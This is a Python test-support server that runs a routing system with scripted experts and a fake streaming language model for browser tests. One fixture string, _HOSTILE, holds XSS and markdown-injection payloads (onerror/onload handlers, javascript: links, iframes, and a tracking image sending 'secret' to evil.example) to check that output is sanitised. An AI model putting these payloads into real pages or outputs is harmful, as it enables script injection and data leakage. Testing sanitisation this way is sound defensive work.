"""The real server over the real experts, with what a browser test must be able to foresee.

Some questions are routed by a script, so that every kind of answer can be asked for; the others go
to the trained router. The language model says what it is told to, word by word.

    python tests/support/page_server.py --port 8000
"""

import argparse
import asyncio
import contextlib
import json
import socket
import tempfile
import threading
import time
from pathlib import Path

import uvicorn

from mrkl.builtin import Parts
from mrkl.settings import Settings
from mrkl.system import System
from mrkl.testing import FakeExpert, copied
from mrkl_apps.rest.app import create_app
from mrkl_core.errors import ExpertUnavailableError
from mrkl_core.values import (
    Abstain,
    Annotations,
    Call,
    Content,
    Generation,
    Provenance,
    Reasoning,
    Slot,
)

SEND = "Send the minutes to Zoë with subject Weekly minutes"
BROKEN = "Ring the bell"
COUNTRIES = "How many customers does each country have?"
YEARS = "What did we sell in each year?"
STORY = "Tell me a long story"
ESSAY = "Explain the quadratic formula"
HOSTILE = "Show me something nasty"
REPEAT = "Repeat this, word for word:\n\n"
THINKING = "Think about it: why is the sky blue?"

_COUNTRIES_SQL = (
    'SELECT "Country", count(*) AS customers FROM "Customer"'
    ' GROUP BY "Country" ORDER BY customers DESC'
)
_YEARS_SQL = (
    'SELECT strftime(\'%Y\', "InvoiceDate") AS year, round(sum("Total"), 2) AS sales'
    ' FROM "Invoice" GROUP BY year'
)

_ESSAY = r"""## The quadratic formula

For $$a x^2 + b x + c = 0$$ with \(a \neq 0\), the roots are

\[ x_{1,2} = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a} \]

The **discriminant** \(b^2 - 4ac\) says how many there are; that costs you $5 or 20~25 minutes.

| discriminant | real roots |
|--------------|-----------:|
| positive     |          2 |
| zero         |          1 |
| negative     |          0 |

```python
from math import sqrt


def roots(a: float, b: float, c: float) -> tuple[float, float]:
    # Assumes that both are real.
    root = sqrt(b * b - 4 * a * c)
    return (-b - root) / (2 * a), (-b + root) / (2 * a)
```

1. Complete the square.
2. Take the root, *both signs*.

> See [the proof](https://en.wikipedia.org/wiki/Quadratic_formula) for more.
"""

_HOSTILE = """<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script>

![pixel](https://evil.example/pixel.png?q=secret) [click](javascript:document.title='owned')
[data](data:text/html,<script>1</script>) [there](//evil.example/x) <https://evil.example/auto>

<svg onload="document.title='owned'"><style>@import url(https://evil.example/s.css);</style></svg>
<iframe src="https://evil.example"></iframe> <a href="vbscript:x">vb</a>

$$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/i.png}$$

```html"><img src=x onerror=1>
<img src=x onerror="document.title='owned'">
```
"""

_SAYINGS = {
    ESSAY: _ESSAY,
    HOSTILE: _HOSTILE,
    STORY: "\n\n".join(
        f"Chapter {number}. The router knew where to go." for number in range(1, 41)
    ),
    THINKING: "Because air scatters **short waves** more than long ones.",
}


class Storyteller:
    """A language model that says what it is told to."""

    name = "storyteller"

    def __init__(self, pause_s=0.02):
        self.pause_s = pause_s

    async def generate(self, messages, **options):
        raise NotImplementedError

    async def score(self, prompt, continuations):
        raise NotImplementedError

    async def stream(self, messages, **options):
        question = messages[-1].content
        if question == THINKING:
            for word in "Light, air, molecules: Rayleigh scattering it is.".split(" "):
                yield Reasoning(text=f"{word} ")
                await asyncio.sleep(self.pause_s)
        text = _SAYINGS.get(question, question.removeprefix(REPEAT))
        size = max(12, len(text) // 250)
        for start in range(0, len(text), size):
            yield Content(text=text[start : start + size])
            await asyncio.sleep(self.pause_s)
        yield Generation(text=text, prompt_tokens=9, completion_tokens=len(text) // 4)


class PartlyScripted:
    """Decides some questions as told; the others as the router does that it stands before."""

    def __init__(self, router):
        self._router = router

    def __getattr__(self, name):
        return getattr(self._router, name)

    def register(self, spec):
        if spec.name not in ("send", "bell"):
            self._router.register(spec)

    def route(self, question, *, experts, clock, turns=()):
        decision = _decision(question)
        if decision is not None:
            return decision
        known = [name for name in experts if name not in ("send", "bell")]
        return self._router.route(question, experts=known, clock=clock, turns=turns)

    def explain(self, question, *, experts):
        known = [name for name in experts if name not in ("send", "bell")]
        return self._router.explain(question, experts=known)


def _decision(question):
    if question == SEND:
        arguments = {"to": "Zoë", "subject": "Weekly minutes", "urgent": False, "copies": 1}
        default = {"kind": "default", "source": "spec", "start": 0, "end": 0}
        provenance = {
            "to": copied(question, "Zoë"),
            "subject": copied(question, "Weekly minutes"),
            "urgent": Provenance(**default, transform="constant(false)"),
            "copies": Provenance(**default, transform="constant(1)"),
        }
        return Call(name="send", arguments=arguments, provenance=provenance, confidence=0.94)
    if question == BROKEN:
        return Call(name="bell", arguments={}, provenance={}, confidence=0.9)
    if question in _SAYINGS or question.startswith(REPEAT):
        return Abstain(reason="this is for a language model")
    query = {COUNTRIES: _COUNTRIES_SQL, YEARS: _YEARS_SQL}.get(question)
    return query and _query(question, query)


def _query(question, sql):
    origin = Provenance(
        kind="program",
        source="question",
        start=0,
        end=len(question.encode()),
        transform=f"template({json.dumps(sql)})",
    )
    return Call(
        name="database", arguments={"sql": sql}, provenance={"sql": origin}, confidence=0.91
    )


def build_system(folder, **settings):
    """Return the system; what it keeps, it keeps in ``folder``."""
    settings = Settings(data_dir=folder, offline=True, deadline_s=60.0, **settings)
    system = System.default(
        settings, router=PartlyScripted(Parts(settings).router), model=Storyteller()
    )
    slots = [
        Slot(name="to", description="who gets it"),
        Slot(name="subject", description="what it is about"),
        Slot(name="urgent", description="whether it is urgent", type="boolean"),
        Slot(name="copies", description="how many copies", type="integer"),
    ]
    send = FakeExpert(
        "send",
        lambda arguments, _: f"Sent “{arguments['subject']}” to {arguments['to']}.",
        slots=slots,
        annotations=Annotations(read_only=False, needs_approval=True),
    )
    bell = FakeExpert(
        "bell",
        ExpertUnavailableError("The bell does not ring.", hint="Knock instead."),
        slots=[],
    )
    system.register(send)
    system.register(bell)
    return system


@contextlib.contextmanager
def served(folder, **settings):
    """Serve on a free port in another thread; gives the address."""
    app = create_app(build_system(folder, **settings))
    listener = socket.create_server(("127.0.0.1", 0))
    config = uvicorn.Config(app, log_level="warning", timeout_graceful_shutdown=2)
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
    thread.start()
    try:
        until = time.monotonic() + 30
        while not server.started and time.monotonic() < until:
            time.sleep(0.02)
        yield f"http://127.0.0.1:{listener.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(10)
        listener.close()


def main():
    """Serve until interrupted."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--port", type=int, default=8000)
    parser.add_argument("--folder", type=Path, default=None)
    options = parser.parse_args()
    folder = options.folder or Path(tempfile.mkdtemp(prefix="mrkl-page-"))
    uvicorn.run(create_app(build_system(folder)), port=options.port, log_level="warning")


if __name__ == "__main__":
    main()
